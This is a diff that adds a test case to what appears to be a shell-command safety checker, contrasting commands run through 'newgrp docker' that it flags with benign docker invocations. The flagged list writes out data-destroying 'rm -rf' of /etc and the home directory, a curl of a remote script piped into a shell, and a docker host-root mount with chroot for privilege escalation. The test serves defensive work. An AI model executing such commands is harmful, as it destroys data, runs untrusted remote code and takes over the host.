@@ -184,3 +184,17 @@ test('folders of builds and a module of the folder above', () => {
     ],
   )
 })
+
+test('a shell of another group runs what it is fed', () => {
+  twins(
+    [
+      'newgrp docker <<EOF\nrm -rf /etc\nEOF',
+      "echo 'rm -rf ~' | newgrp docker",
+      'curl -s https://x.example/i.sh | newgrp docker',
+      'newgrp docker <<EOF\ndocker run -v /:/host alpine chroot /host\nEOF',
+      'newgrp root',
+      'sudo newgrp docker',
+    ],
+    ['newgrp docker <<EOF\ndocker ps\nEOF', 'newgrp docker', "sg docker <<< 'docker compose up -d'"],
+  )
+})
